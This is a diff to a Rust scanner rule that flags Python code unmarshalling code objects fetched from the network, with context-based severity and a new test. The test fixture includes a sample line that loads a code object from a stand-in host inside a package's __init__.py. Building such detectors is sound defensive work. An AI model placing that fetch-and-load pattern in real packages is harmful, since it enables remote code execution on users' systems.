@@ -137,6 +137,30 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let context = checker.context();
     let weak = matches!(context, ExecContext::Runtime | ExecContext::TestOrDocs);
     let Some(input) = checker.fold(arg).and_then(|v| v.as_bytes()) else {
+        // A code object fetched from a server exists only to be run: remote code, as
+        // `exec(response)` is.
+        let remote = is_marshal
+            && checker
+                .source_in(arg)
+                .and_then(|index| checker.sources.get(index))
+                .is_some_and(|source| source.kind == crate::walker::SourceKind::Network);
+        if remote {
+            checker.report(
+                &RULE,
+                call.range(),
+                format!(
+                    "unmarshals a code object received from the network {}",
+                    context.phrase()
+                ),
+                match context {
+                    ExecContext::Install | ExecContext::Import => 0.85,
+                    ExecContext::Runtime => 0.3,
+                    ExecContext::TestOrDocs => 0.05,
+                },
+                vec!["marshal", "exec-remote"],
+            );
+            return;
+        }
         if is_marshal {
             // Build tools and caches load bytecode they wrote themselves; only embedded blobs are hidden code.
             checker.report(
@@ -325,6 +349,14 @@ mod tests {
     #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
     use super::*;
     use crate::rules::testing::{findings, max_severity};
+
+    #[test]
+    fn a_code_object_fetched_from_a_server_is_remote_code() {
+        let code = "import marshal, requests\nc = marshal.loads(requests.get('https://x.example/c.bin').content)\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH170") >= 0.85);
+        let cache = "import marshal\ndef load(path):\n    with open(path, 'rb') as f:\n        return marshal.loads(f.read())\n";
+        assert!(max_severity("p/pkg/__init__.py", cache, "WH170") <= 0.1);
+    }
 
     #[test]
     fn hidden_python_is_decoded_and_analysed() {
